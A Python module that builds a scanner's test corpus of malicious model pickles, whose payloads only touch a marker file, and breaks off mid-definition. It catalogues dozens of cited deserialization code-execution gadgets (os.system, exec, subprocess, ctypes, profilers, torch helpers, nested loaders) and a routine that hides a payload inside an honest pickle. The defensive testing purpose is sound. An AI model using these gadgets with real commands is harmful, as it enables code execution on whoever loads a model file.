"""The scanner's test corpus: malicious model files whose payloads are harmless, and benign model files.

Every malicious payload, if it were loaded, only creates its own marker file `<root>/markers/PWNED-<id>`
(by `open(marker, "w")`, `touch marker`, `venv.create(marker)`, ...), so the corpus is safe to build anywhere
and proves itself: `test_corpus.py::test_malicious_payloads_really_run` loads every sample with the loader
a victim would use and checks that exactly the markers the samples promise appear. (Beyond the marker, a
few payloads touch only the loading process's own memory: a copyreg extension code, a sys.modules alias,
attributes added to collections.namedtuple; torch._utils is overwritten and put back.)

Each malicious `Sample` says which technique it uses (`TECHNIQUES` below is the table of techniques and
their public sources: GHSA advisories of mmaitre314/picklescan, issues of protectai/modelscan, CVEs), which
container holds it (`CONTAINERS`), which loader family runs it and whether that loader executes it.

Pickles are written by a tiny assembler (`G`, `Call`, `Build`, `dump`) rather than by `pickle.dumps`, so a
payload can name any global (dotted names, Python 2 names, modules that are not importable here) and is the
same expression at every protocol; opcode-level tricks are written byte by byte. Zips around PyTorch
checkpoints are written by hand (`write_zip`) so the corpus controls CRCs, flag bits and duplicate names.
"""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import importlib.util
import inspect
import io
import json
import lzma
import marshal
import pickle
import pickletools
import re
import shlex
import shutil
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta, timezone
from functools import cache
from pathlib import Path
from typing import Any

import numpy as np

MARKER_PREFIX = "PWNED-"
TORCH_MAGIC = 0x1950A86A20F9469CFC6C  # torch.serialization.MAGIC_NUMBER, the legacy format's first pickle


@dataclass(frozen=True)
class Sample:
    """One corpus file. For a malicious sample, `loader` is the loader family a victim would use on it
    (see payload_check.py), `executes` whether that loader runs the payload (so the marker appears), and
    `marker` the file the payload creates."""

    path: Path
    technique: str
    container: str
    source: str
    loader: str | None = None
    executes: bool = False
    marker: Path | None = None
    requires: tuple[str, ...] = ()  # modules the loader needs (a sample whose loader is missing is skipped)
    note: str = ""

    @property
    def id(self) -> str:
        return self.path.stem if self.marker is None else self.marker.name[len(MARKER_PREFIX) :]


# --------------------------------------------------------------------------------------------------------
# A tiny pickle assembler
# --------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class G:
    """A global, resolved by the unpickler's find_class (dotted names resolve at protocol >= 4)."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """`fn(*args)`: REDUCE."""

    fn: Any
    args: tuple = ()


@dataclass(frozen=True)
class Build:
    """BUILD: `obj.__setstate__(state)` if obj has one, else update its `__dict__` (and slots)."""

    obj: Any
    state: Any


@dataclass(frozen=True)
class Ops:
    """Raw opcodes that push exactly one value (already written for the protocol they are used at)."""

    data: bytes


def call(fn: Any, *args: Any) -> Call:
    return Call(fn, args)


def _text_str(s: str) -> bytes:  # protocol 0 UNICODE, escaped like pickle's own protocol 0 writer
    for char, escape in (("\\", "\\u005c"), ("\0", "\\u0000"), ("\n", "\\u000a"), ("\r", "\\u000d")):
        s = s.replace(char, escape)
    return b"V" + s.replace("\x1a", "\\u001a").encode("raw-unicode-escape") + b"\n"


def p_str(s: str, proto: int) -> bytes:
    if proto == 0:
        return _text_str(s)
    raw = s.encode("utf-8", "surrogatepass")
    if proto >= 4 and len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def p_int(n: int, proto: int) -> bytes:
    if isinstance(n, bool):
        return (b"\x88" if n else b"\x89") if proto >= 2 else (b"I01\n" if n else b"I00\n")
    if proto >= 1 and 0 <= n < 256:
        return b"K" + bytes([n])
    if proto >= 1 and -(2**31) <= n < 2**31:
        return b"J" + struct.pack("<i", n)
    if proto >= 2:
        raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
        return b"\x8a" + bytes([len(raw)]) + raw
    return b"I%d\n" % n


def p_global(g: G, proto: int) -> bytes:
    module = "__builtin__" if g.module == "builtins" and proto < 3 else g.module
    if proto >= 4:
        return p_str(module, proto) + p_str(g.name, proto) + b"\x93"
    if (
        "." in g.name
    ):  # before protocol 4, find_class cannot walk a dotted name: getattr chain, as pickle does
        head, *rest = g.name.split(".")
        expr: Any = G(g.module, head)
        for part in rest:
            expr = call(G("builtins", "getattr"), expr, part)
        return emit(expr, proto)
    return b"c" + module.encode() + b"\n" + g.name.encode() + b"\n"


def emit(value: Any, proto: int) -> bytes:
    """Opcodes that push `value` (an expression or a plain Python literal)."""
    if isinstance(value, Ops):
        return value.data
    if isinstance(value, G):
        return p_global(value, proto)
    if isinstance(value, Call):
        return emit(value.fn, proto) + emit(tuple(value.args), proto) + b"R"
    if isinstance(value, Build):
        return emit(value.obj, proto) + emit(value.state, proto) + b"b"
    if value is None:
        return b"N"
    if isinstance(value, (bool, int)):
        return p_int(value, proto)
    if isinstance(value, float):
        return b"G" + struct.pack(">d", value) if proto >= 1 else b"F%r\n" % value
    if isinstance(value, str):
        return p_str(value, proto)
    if isinstance(value, (bytes, bytearray)):
        if proto < 3:  # what pickle itself writes for bytes before protocol 3
            return emit(call(G("_codecs", "encode"), bytes(value).decode("latin-1"), "latin1"), proto)
        return (
            b"C" + bytes([len(value)]) if len(value) < 256 else b"B" + struct.pack("<I", len(value))
        ) + value
    if isinstance(value, tuple):
        return b"(" + b"".join(emit(v, proto) for v in value) + b"t"
    if isinstance(value, list):
        return b"(" + b"".join(emit(v, proto) for v in value) + b"l"
    if isinstance(value, dict):
        return b"(" + b"".join(emit(k, proto) + emit(v, proto) for k, v in value.items()) + b"d"
    raise TypeError(f"cannot assemble {type(value).__name__}")


def proto_header(proto: int) -> bytes:
    return b"\x80" + bytes([proto]) if proto >= 2 else b""


def dump(value: Any, proto: int) -> bytes:
    """A whole pickle: PROTO (from protocol 2), the value, STOP."""
    return proto_header(proto) + emit(value, proto) + b"."


# --------------------------------------------------------------------------------------------------------
# Splicing a payload into an honest pickle
# --------------------------------------------------------------------------------------------------------

_MEMO_PUTS = {"PUT", "BINPUT", "LONG_BINPUT"}
_MEMO_GETS = {"GET", "BINGET", "LONG_BINGET"}


def payload_body(payload: bytes, memo_base: int = 100_000) -> bytes:
    """A pickle's opcodes without PROTO, FRAME and the final STOP, memo indices moved to `memo_base + i`
    (MEMOIZE written as an explicit LONG_BINPUT) so that they cannot collide with the host pickle's memo."""
    ops = list(pickletools.genops(payload))
    out = bytearray()
    memo_keys: set[int] = set()
    for index, (op, arg, pos) in enumerate(ops):
        end = ops[index + 1][2] if index + 1 < len(ops) else len(payload)
        if op.name in ("PROTO", "FRAME") or (op.name == "STOP" and index == len(ops) - 1):
            continue
        if op.name == "MEMOIZE":
            key = len(memo_keys)
            memo_keys.add(key)
            out += b"r" + struct.pack("<I", memo_base + key)
        elif op.name in _MEMO_PUTS:
            memo_keys.add(int(arg))
            out += b"r" + struct.pack("<I", memo_base + int(arg))
        elif op.name in _MEMO_GETS:
            out += b"j" + struct.pack("<I", memo_base + int(arg))
        else:
            out += payload[pos:end]
    return bytes(out)


def splice(honest: bytes, payload: bytes) -> bytes:
    """`honest` with the payload run just before its final STOP and its result popped: the file still loads
    to the honest object, after the payload ran. A protocol 4+ frame that covers the STOP is lengthened."""
    if not honest.endswith(b"."):
        raise ValueError("the honest pickle must end with STOP")
    insert = payload_body(payload) + b"0"
    data = bytearray(honest[:-1] + insert + b".")
    stop = len(honest) - 1
    position = data.rfind(b"\x95", 0, stop)
    while position >= 0:  # the last FRAME whose length reaches the STOP
        length = int.from_bytes(data[position + 1 : position + 9], "little")
        if position + 9 + length == stop + 1:
            data[position + 1 : position + 9] = (length + len(insert)).to_bytes(8, "little")
            break
        position = data.rfind(b"\x95", 0, position)
    return bytes(data)


# --------------------------------------------------------------------------------------------------------
# Techniques
# --------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Marker:
    """What a payload needs to know: its marker file, and a place for companion files."""

    path: str
    aux_dir: Path

    @property
    def src(self) -> str:  # a Python statement that creates the marker
        return f"open({self.path!r}, 'w').close()"

    @property
    def expr(self) -> str:  # a Python expression that creates the marker
        return f"open({self.path!r}, 'w').close()"

    @property
    def cmd(self) -> str:  # a shell command that creates the marker
        return f"touch {shlex.quote(self.path)}"

    @property
    def argv(self) -> list[str]:
        return ["touch", self.path]

    def aux(self, name: str, data: bytes) -> str:
        self.aux_dir.mkdir(parents=True, exist_ok=True)
        path = self.aux_dir / f"{Path(self.path).name.removeprefix(MARKER_PREFIX)}.{name}"
        path.write_bytes(data)
        return str(path)


@dataclass(frozen=True)
class Technique:
    name: str
    source: str
    build: Callable[[Marker, int], bytes]
    protocols: tuple[int, ...] = (4,)
    executes: bool = True  # whether a plain unpickling runs it (False: the payload is still no honest file)
    stream_only: bool = False  # runs only where every pickle of a stream is loaded (legacy torch, streams)
    whole_only: bool = False  # the trick lives in the whole stream (trailing bytes): never spliced
    heavy: bool = False  # slow to run: kept to a few containers
    note: str = ""


TECHNIQUES: list[Technique] = []


def technique(
    name: str,
    source: str,
    protocols: tuple[int, ...] = (4,),
    *,
    executes: bool = True,
    stream_only: bool = False,
    whole_only: bool = False,
    heavy: bool = False,
    note: str = "",
) -> Callable[[Callable[..., Any]], Callable[..., Any]]:
    """Register a technique. The function maps a marker (and, if it takes two parameters, the protocol) to
    an expression assembled at that protocol, or to the pickle's bytes."""

    def register(fn: Callable[..., Any]) -> Callable[..., Any]:
        takes_proto = len(inspect.signature(fn).parameters) == 2

        def build(marker: Marker, proto: int) -> bytes:
            value = fn(marker, proto) if takes_proto else fn(marker)
            return value if isinstance(value, bytes) else dump(value, proto)

        TECHNIQUES.append(
            Technique(name, source, build, protocols, executes, stream_only, whole_only, heavy, note)
        )
        return fn

    return register


ALL_PROTOCOLS = (0, 1, 2, 3, 4, 5)
SOUR = "Sour Pickles, Slaviero, Black Hat USA 2011"
PS = "https://github.com/mmaitre314/picklescan/security/advisories/"
MS = "https://github.com/protectai/modelscan/issues/"
IO = G("_io", "BytesIO")
SYSTEM = G("posix", "system")


def _has(module: str) -> bool:
    try:
        return importlib.util.find_spec(module) is not None
    except (ImportError, ValueError):
        return False


# Plain REDUCE of a dangerous callable --------------------------------------------------------------------


@technique(
    "reduce-os-system",
    f"classic __reduce__ payload (os.system pickles as posix.system); {SOUR}",
    ALL_PROTOCOLS,
)
def _(m: Marker) -> Any:
    return call(SYSTEM, m.cmd)


@technique(
    "global-os-system",
    "GLOBAL 'os system' spelled with the public module name; picklescan malicious2",
    (0, 2, 4),
)
def _(m: Marker) -> Any:
    return call(G("os", "system"), m.cmd)


@technique(
    "builtins-exec",
    "builtins.exec (written __builtin__ before protocol 3); picklescan malicious10",
    ALL_PROTOCOLS,
)
def _(m: Marker) -> Any:
    return call(G("builtins", "exec"), m.src)


@technique("builtins-eval", "builtins.eval; picklescan malicious1 (CVE-2025-1716 family)", (0, 2, 4))
def _(m: Marker) -> Any:
    return call(G("builtins", "eval"), m.expr)


@technique("builtins-open", "builtins.open writes an arbitrary file; modelscan unsafe globals", (2, 4))
def _(m: Marker) -> Any:
    return call(G("builtins", "open"), m.path, "w")


@technique("exec-compile", f"exec(compile(...)); {SOUR} (picklescan malicious0)", (2, 4))
def _(m: Marker) -> Any:
    return call(G("builtins", "exec"), call(G("builtins", "compile"), m.src, "<model>", "exec"))


@technique("getattr-import", f"getattr(__import__('os'), 'system'); {SOUR}; {MS}331", (2, 4))
def _(m: Marker) -> Any:
    return call(call(G("builtins", "getattr"), call(G("builtins", "__import__"), "os"), "system"), m.cmd)


@technique("subprocess-run", "subprocess.run; picklescan malicious8", (2, 4))
def _(m: Marker) -> Any:
    return call(G("subprocess", "run"), m.argv)


@technique("subprocess-popen", "subprocess.Popen (the child outlives the load)", (2, 4))
def _(m: Marker) -> Any:
    return call(G("subprocess", "Popen"), m.argv)


@technique("runpy-run-code", "runpy._run_code; picklescan malicious14")
def _(m: Marker) -> Any:
    return call(G("runpy", "_run_code"), m.src, {})


@technique("pip-main", "pip.main; CVE-2025-1716 (picklescan < 0.0.21 did not block pip)", heavy=True)
def _(m: Marker) -> Any:
    args = ["list", "--log", m.path, "--isolated", "--no-cache-dir", "--disable-pip-version-check", "-q"]
    return call(G("pip", "main"), args)


@technique("pydoc-pipepager", "pydoc.pipepager runs a shell command; picklescan malicious18")
def _(m: Marker) -> Any:
    return call(G("pydoc", "pipepager"), "", m.cmd)


@technique("pydoc-locate-methodcaller", f"pydoc.locate + operator.methodcaller; {PS}GHSA-84r2-jw7c-4r5q")
def _(m: Marker) -> Any:
    return call(call(G("operator", "methodcaller"), "system", m.cmd), call(G("pydoc", "locate"), "os"))


@technique(
    "operator-attrgetter", f"_operator.attrgetter('system')(__import__('os')); {PS}GHSA-46h3-79wf-xr6c"
)
def _(m: Marker) -> Any:
    getter = call(G("_operator", "attrgetter"), "system")
    return call(call(getter, call(G("builtins", "__import__"), "os")), m.cmd)


@technique("operator-methodcaller", f"_operator.methodcaller('system', cmd)(os); {PS}GHSA-955r-x9j8-7rhh")
def _(m: Marker) -> Any:
    return call(
        call(G("_operator", "methodcaller"), "system", m.cmd), call(G("builtins", "__import__"), "os")
    )


@technique(
    "functools-partial", "functools.partial(os.system, cmd)(); picklescan unsafe globals (functools.partial)"
)
def _(m: Marker) -> Any:
    return call(call(G("functools", "partial"), SYSTEM, m.cmd))


@technique("timeit-timeit", "timeit.timeit(setup=code); picklescan malicious21 (GHSA-v7x6-rv5q-mhwc)")
def _(m: Marker) -> Any:
    return call(G("timeit", "timeit"), "pass", m.src)


@technique("cprofile-run", f"cProfile.run; {PS}GHSA-49gj-c84q-6qm9")
def _(m: Marker) -> Any:
    return call(G("cProfile", "run"), m.src)


@technique("cprofile-runctx", f"cProfile.runctx; {PS}GHSA-9w88-8rmg-7g2p")
def _(m: Marker) -> Any:
    return call(G("cProfile", "runctx"), m.src, {}, {})


@technique("profile-run", f"profile.run; {PS}GHSA-7wx9-6375-f5wh")
def _(m: Marker) -> Any:
    return call(G("profile", "run"), m.src)


@technique("profile-Profile.run", f"profile.Profile.run; {PS}GHSA-x696-vm39-cp64")
def _(m: Marker) -> Any:
    return call(G("profile", "Profile.run"), call(G("profile", "Profile")), m.src)


@technique("profile-Profile.runctx", f"profile.Profile.runctx; {PS}GHSA-6vqj-c2q5-j97w")
def _(m: Marker) -> Any:
    return call(G("profile", "Profile.runctx"), call(G("profile", "Profile")), m.src, {}, {})


@technique("trace-Trace.run", f"trace.Trace.run; {PS}GHSA-5qwp-399c-mjwf")
def _(m: Marker) -> Any:
    return call(G("trace", "Trace.run"), call(G("trace", "Trace"), 0, 0), m.src)


@technique("trace-Trace.runctx", f"trace.Trace.runctx; {PS}GHSA-g344-hcph-8vgg")
def _(m: Marker) -> Any:
    return call(G("trace", "Trace.runctx"), call(G("trace", "Trace"), 0, 0), m.src, {}, {})


@technique(
    "code-InteractiveInterpreter.runcode", f"code.InteractiveInterpreter.runcode; {PS}GHSA-cj3c-v495-4xqh"
)
def _(m: Marker) -> Any:
    return call(G("code", "InteractiveInterpreter.runcode"), call(G("code", "InteractiveInterpreter")), m.src)


@technique("bdb-Bdb.run", "bdb.Bdb.run; picklescan malicious15, modelscan unsafe globals (bdb)")
def _(m: Marker) -> Any:
    return call(G("bdb", "Bdb.run"), call(G("bdb", "Bdb")), m.src)


@technique(
    "pdb-Pdb.run", "pdb.Pdb(stdin=StringIO('continue'), stdout=...).run; modelscan unsafe globals (pdb)"
)
def _(m: Marker) -> Any:
    stdio = (
        call(G("_io", "StringIO"), "continue\n"),
        call(G("_io", "StringIO")),
    )  # a stdout turns raw input off
    debugger = call(G("pdb", "Pdb"), "tab", *stdio, None, True, False)
    return call(G("pdb", "Pdb.run"), debugger, m.src)


@technique("doctest-debug_script", f"doctest.debug_script; {PS}GHSA-fqq6-7vqf-w3fg")
def _(m: Marker) -> Any:
    return call(G("doctest", "debug_script"), m.src, True)


@technique("idlelib-calltip-get_entity", f"idlelib.calltip.get_entity (eval); {PS}GHSA-9xph-j2h6-g47v")
def _(m: Marker) -> Any:
    return call(G("idlelib.calltip", "get_entity"), m.expr)


@technique("idlelib-Calltip.fetch_tip", f"idlelib.calltip.Calltip.fetch_tip; {PS}GHSA-8r4j-24qv-fmq9")
def _(m: Marker) -> Any:
    return call(G("idlelib.calltip", "Calltip.fetch_tip"), {}, m.expr)


@technique(
    "idlelib-AutoComplete.get_entity",
    f"idlelib.autocomplete.AutoComplete.get_entity; {PS}GHSA-6w4w-5w54-rjvr",
)
def _(m: Marker) -> Any:
    return call(G("idlelib.autocomplete", "AutoComplete.get_entity"), {}, m.expr)


@technique(
    "idlelib-ObjectTreeItem.SetText", f"idlelib.debugobj.ObjectTreeItem.SetText; {PS}GHSA-3vg9-h568-4w9m"
)
def _(m: Marker) -> Any:
    return call(G("idlelib.debugobj", "ObjectTreeItem.SetText"), {}, m.expr)


@technique("idlelib-Executive.runcode", f"idlelib.run.Executive.runcode; {PS}GHSA-m869-42cg-3xwr")
def _(m: Marker) -> Any:
    return call(G("idlelib.run", "Executive.runcode"), call(G("idlelib.run", "Executive"), None), m.src)


@technique(
    "idlelib-ModifiedInterpreter.runcommand",
    f"idlelib.pyshell.ModifiedInterpreter.runcommand; {PS}GHSA-j343-8v2j-ff7w",
)
def _(m: Marker) -> Any:
    console = Build(call(G("types", "SimpleNamespace")), {"executing": False})
    fake_self = Build(
        call(G("types", "SimpleNamespace")), {"tkconsole": console, "rpcclt": None, "locals": {}}
    )
    return call(G("idlelib.pyshell", "ModifiedInterpreter.runcommand"), fake_self, m.src)


@technique("lib2to3-Grammar.loads", f"lib2to3 Grammar.loads unpickles its argument; {PS}GHSA-f54q-57x4-jg88")
def _(m: Marker) -> Any:
    inner = dump({"payload": call(G("builtins", "exec"), m.src)}, 4)
    grammar = G("lib2to3.pgen2.grammar", "Grammar")
    return call(G("lib2to3.pgen2.grammar", "Grammar.loads"), call(grammar), inner)


@technique(
    "lib2to3-ParserGenerator.make_label",
    f"lib2to3 ParserGenerator.make_label (eval); {PS}GHSA-p9w7-82w4-7q8m",
)
def _(m: Marker) -> Any:
    grammar = call(G("lib2to3.pgen2.grammar", "Grammar"))
    return call(G("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), None, grammar, f'"%s" % ({m.expr},)')


@technique("distutils-write_file", f"distutils.file_util.write_file; {PS}GHSA-m273-6v24-x4m4")
def _(m: Marker) -> Any:
    return call(G("distutils.file_util", "write_file"), m.path, ["pwned"])


@technique(
    "ensurepip-_run_pip",
    f"ensurepip._run_pip formats its argument into Python code; {PS}GHSA-xp4f-hrf8-rxw7",
    heavy=True,
)
def _(m: Marker) -> Any:
    return call(G("ensurepip", "_run_pip"), f"[]\n{m.src}\nraise SystemExit(0)\n")


@technique("pty-spawn", f"pty.spawn; {PS}GHSA-vqmv-47xg-9wpr")
def _(m: Marker) -> Any:
    return call(G("pty", "spawn"), m.argv)


@technique("uuid-_get_command_stdout", f"uuid._get_command_stdout; {PS}GHSA-g38g-8gr9-h9xp")
def _(m: Marker) -> Any:
    return call(G("uuid", "_get_command_stdout"), "touch", m.path)


@technique("osx_support-_read_output", f"_osx_support._read_output (os.system); {PS}GHSA-g38g-8gr9-h9xp")
def _(m: Marker) -> Any:
    return call(G("_osx_support", "_read_output"), m.cmd)


@technique("imaplib-IMAP4_stream", f"imaplib.IMAP4_stream (Popen shell=True); {PS}GHSA-g38g-8gr9-h9xp")
def _(m: Marker) -> Any:
    return call(G("imaplib", "IMAP4_stream"), m.cmd)


@technique("venv-create", "venv.create writes a directory tree; picklescan malicious20")
def _(m: Marker) -> Any:
    return call(G("venv", "create"), m.path, False, False, True)


@technique(
    "asyncio-subprocess-start",
    f"asyncio.unix_events._UnixSubprocessTransport._start; {PS}GHSA-q77w-mwjj-7mqx, GHSA-jgw4-cr84-mqxg, "
    f"and a submodule of a blocked package: {PS}GHSA-f7qq-56ww-84cr",
)
def _(m: Marker) -> Any:
    return call(
        G("asyncio.unix_events", "_UnixSubprocessTransport._start"), {}, m.cmd, True, None, None, None, 0
    )


@technique(
    "ctypes-pythonapi-system",
    f"libc system() through ctypes.pythonapi (a dotted global); {PS}GHSA-4675-36f9-wf6r",
)
def _(m: Marker) -> Any:
    return call(G("ctypes", "pythonapi.system"), m.cmd.encode())


@technique("ctypes-CDLL", f"ctypes.CDLL(None).system via operator.methodcaller; {PS}GHSA-4675-36f9-wf6r")
def _(m: Marker) -> Any:
    return call(
        call(G("operator", "methodcaller"), "system", m.cmd.encode()), call(G("ctypes", "CDLL"), None)
    )


@technique(
    "posixsubprocess-fork_exec",
    "_posixsubprocess.fork_exec called directly (CPython 3.11/3.12 signature)",
    executes=(3, 11) <= sys.version_info[:2] < (3, 13),
)
def _(m: Marker) -> Any:
    touch = (shutil.which("touch") or "/usr/bin/touch").encode()
    fds = (-1, -1, -1, -1, -1, -1, 0, 1000)  # errpipe_read 0: the child can close it; errpipe_write >= 3
    rest = (False, False, -1, None, None, None, -1, None, False)
    return call(G("_posixsubprocess", "fork_exec"), m.argv, [touch], False, (), None, None, *fds, *rest)


@technique("multiprocessing-spawnv_passfds", f"multiprocessing.util.spawnv_passfds; {MS}338")
def _(m: Marker) -> Any:
    touch = (shutil.which("touch") or "/usr/bin/touch").encode()
    return call(G("multiprocessing.util", "spawnv_passfds"), touch, m.argv, [])


@technique("numpy-runstring", "numpy.testing._private.utils.runstring (exec); picklescan malicious22")
def _(m: Marker) -> Any:
    return call(G("numpy.testing._private.utils", "runstring"), m.src, {})


@technique("numpy-__builtins__", f"numpy.__builtins__ (a dict) -> dict.get(..., 'exec'); {MS}330")
def _(m: Marker) -> Any:
    return call(call(G("builtins", "dict.get"), G("numpy", "__builtins__"), "exec"), m.src)


@technique("pkgutil-resolve_name", f"pkgutil.resolve_name('os:system'); {PS}GHSA-vvpj-8cmc-gx39")
def _(m: Marker) -> Any:
    return call(call(G("pkgutil", "resolve_name"), "os:system"), m.cmd)


@technique("importlib-import_module", f"importlib.import_module + getattr; {MS}331, picklescan issue 66")
def _(m: Marker) -> Any:
    return call(call(G("builtins", "getattr"), call(G("importlib", "import_module"), "os"), "system"), m.cmd)


@technique("torch-collect_env-run", f"torch.utils.collect_env.run; {PS}GHSA-f745-w6jp-hpxx")
def _(m: Marker) -> Any:
    return call(G("torch.utils.collect_env", "run"), m.cmd)


@technique("torch-execWrapper", f"torch.jit.unsupported_tensor_ops.execWrapper; {PS}GHSA-vr7h-p6mm-wpmh")
def _(m: Marker) -> Any:
    return call(G("torch.jit.unsupported_tensor_ops", "execWrapper"), m.src, {}, {})


@technique("torch-basichandlers", f"torch datapipes decoder basichandlers('pickle'); {PS}GHSA-h3qp-7fh3-f8h4")
def _(m: Marker) -> Any:
    inner = dump(call(G("builtins", "exec"), m.src), 4)
    return call(G("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pickle", inner)


@technique(
    "torch-ConfigModule.load_config",
    f"torch ConfigModule.load_config (pickle.loads); {PS}GHSA-vv6j-3g6g-2pvj",
)
def _(m: Marker) -> Any:
    inner = dump({"payload": call(G("builtins", "exec"), m.src)}, 4)
    return call(G("torch.utils._config_module", "ConfigModule.load_config"), {}, inner)


@technique(
    "torch-bottleneck-run_cprofile",
    f"torch.utils.bottleneck.__main__.run_cprofile; {PS}GHSA-4r9r-ch6f-vxmx (and run_autograd_prof, GHSA-4whj-rm5r-c2v8)",
    executes=_has("torch.utils.bottleneck"),
    note="torch.utils.bottleneck is gone from recent torch: the load fails there, the file is still an attack",
)
def _(m: Marker) -> Any:
    return call(G("torch.utils.bottleneck.__main__", "run_cprofile"), m.src, {})


def _source_has(relative: str, text: str) -> bool:
    """Whether an installed module's source contains `text`, read without importing it (`relative` is a
    path under the standard library, or under torch's package folder when it starts with "torch/")."""
    import sysconfig

    if relative.startswith("torch/"):
        spec = importlib.util.find_spec("torch")  # a top-level spec: torch itself is not imported
        if spec is None or spec.origin is None:
            return False
        path = Path(spec.origin).parent / relative.removeprefix("torch/")
    else:
        path = Path(sysconfig.get_paths()["stdlib"]) / relative
    return path.is_file() and text in path.read_text(errors="replace")


# Helpers that run commands or write files, rated only "unknown" until the deny list named them.


@technique(
    "aix_support-_read_cmd_output",
    f"_aix_support._read_cmd_output (os.system); {PS}GHSA-g38g-8gr9-h9xp",
    executes=_source_has("_aix_support.py", "def _read_cmd_output"),
    note="_aix_support._read_cmd_output is not in this Python (it came with 3.12): the load fails here",
)
def _(m: Marker) -> Any:
    return call(G("_aix_support", "_read_cmd_output"), m.cmd)


@technique(
    "pyrepl-pipe_pager",
    f"_pyrepl.pager.pipe_pager (a shell command); {PS}GHSA-g38g-8gr9-h9xp",
    executes=_source_has("_pyrepl/pager.py", "def pipe_pager"),
    note="_pyrepl is Python 3.13+: the load fails on older interpreters",
)
def _(m: Marker) -> Any:
    return call(G("_pyrepl.pager", "pipe_pager"), "", m.cmd)


@technique("logging-FileHandler", f"logging.FileHandler creates a file; {PS}GHSA-m7j5-r2p5-c39r")
def _(m: Marker) -> Any:
    return call(G("logging", "FileHandler"), m.path)


@technique(
    "torch-compile_file",
    "torch._inductor.codecache.compile_file (subprocess); picklescan malicious17",
    executes=_source_has("torch/_inductor/codecache.py", "def compile_file("),
    heavy=True,
    note="compile_file is gone from recent torch: the load fails there, the file is still an attack",
)
def _(m: Marker) -> Any:
    return call(G("torch._inductor.codecache", "compile_file"), "", "", m.argv)


@technique(
    "torch-GuardBuilder.get",
    f"torch._dynamo.guards.GuardBuilder.get (eval of a guard); {PS}GHSA-86cj-95qr-2p4f",
    executes=_source_has("torch/_dynamo/guards.py", "eval(name, self.scope"),
    heavy=True,
    note="recent torch's GuardBuilder.get evaluates Source objects, not strings: the load fails there",
)
def _(m: Marker) -> Any:
    fake_self = Build(call(G("types", "SimpleNamespace")), {"scope": {}})
    return call(G("torch._dynamo.guards", "GuardBuilder.get"), fake_self, m.expr)


# Payloads nested in a second deserializer ----------------------------------------------------------------


@technique(
    "pickle-loads-nested", f"pickle.loads(b'...') of a second pickle; picklescan malicious13, {MS}267", (2, 4)
)
def _(m: Marker, proto: int) -> Any:
    return call(G("_pickle" if proto >= 3 else "pickle", "loads"), dump(call(SYSTEM, m.cmd), proto))


@technique("torch-load-bytesio", "functools.partial(torch.load, BytesIO(...), weights_only=False)()")
def _(m: Marker) -> Any:
    load = G("torch.serialization", "load")
    inner = dump(call(SYSTEM, m.cmd), 2)
    loader = Build(
        call(G("functools", "partial"), load), (load, (call(IO, inner),), {"weights_only": False}, None)
    )
    return call(loader)


@technique(
    "torch-load-other-file", "partial(torch.load, 'other file', weights_only=False); picklescan malicious19"
)
def _(m: Marker) -> Any:
    load = G("torch.serialization", "load")
    other = m.aux("other.bin", dump(call(SYSTEM, m.cmd), 2))
    return call(Build(call(G("functools", "partial"), load), (load, (other,), {"weights_only": False}, None)))


@technique("numpy-load-bytesio", "numpy.load(BytesIO(object .npy), allow_pickle=True)")
def _(m: Marker) -> Any:
    return call(G("numpy", "load"), call(IO, npy_header_object() + dump(call(SYSTEM, m.cmd), 3)), None, True)


@technique("joblib-load-bytesio", "joblib.load(BytesIO(...)) of a second pickle")
def _(m: Marker) -> Any:
    return call(G("joblib.numpy_pickle", "load"), call(IO, dump(call(SYSTEM, m.cmd), 4)))


@technique("marshal-FunctionType", "types.FunctionType(marshal.loads(code), {})()")
def _(m: Marker) -> Any:
    code = marshal.dumps(compile(m.src, "<model>", "exec"))
    return call(call(G("types", "FunctionType"), call(G("marshal", "loads"), code), {}))


@technique(
    "types-CodeType", "types.CodeType(...) built from its fields, then called; picklescan types_CodeType.pkl"
)
def _(m: Marker) -> Any:
    return call(call(G("types", "FunctionType"), call(G("types", "CodeType"), *_code_fields(m.src)), {}))


def _code_fields(src: str) -> tuple:
    code = compile(src, "<model>", "exec")
    head = (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals)
    head += (code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names, code.co_varnames)
    if sys.version_info >= (3, 11):
        return (*head, code.co_filename, code.co_name, code.co_qualname, code.co_firstlineno, code.co_linetable,
                code.co_exceptiontable, code.co_freevars, code.co_cellvars)  # fmt: skip
    return (*head, code.co_filename, code.co_name, code.co_firstlineno, code.co_linetable, (), ())


class _Reduce:
    """An object that unpickles as `fn(*args)` (for dill and cloudpickle, which pickle `fn` by value)."""

    def __init__(self, fn: Callable[..., Any], args: tuple = ()) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple:
        return self.fn, self.args


def _marker_function(m: Marker) -> Callable[[], None]:
    import builtins

    return eval(f"lambda: {m.expr}", {"__builtins__": builtins})  # noqa: S307 - builds the harmless payload


@technique("dill-function", "a dill-pickled lambda called on load (dill._dill._create_function)", (4,))
def _(m: Marker, proto: int) -> Any:
    import dill

    return dill.dumps(_Reduce(_marker_function(m)), protocol=proto, recurse=True)


@technique(
    "cloudpickle-function", f"a cloudpickle-pickled lambda called on load; {PS}GHSA-9m3x-qqw2-h32h", (4,)
)
def _(m: Marker, proto: int) -> Any:
    import cloudpickle

    return cloudpickle.dumps(_Reduce(_marker_function(m)), protocol=proto)


# Python 2 names: fix_imports maps them at protocols < 3 ------------------------------------------------


@technique(
    "rename-commands",
    "GLOBAL 'commands getoutput' -> subprocess.getoutput (fix_imports, protocol < 3)",
    (0, 2),
)
def _(m: Marker) -> Any:
    return call(G("commands", "getoutput"), m.cmd)


@technique("rename-cPickle", "GLOBAL 'cPickle loads' -> pickle.loads (fix_imports, protocol < 3)", (0, 2))
def _(m: Marker, proto: int) -> Any:
    return call(G("cPickle", "loads"), dump(call(SYSTEM, m.cmd), proto))


@technique(
    "rename-copy_reg",
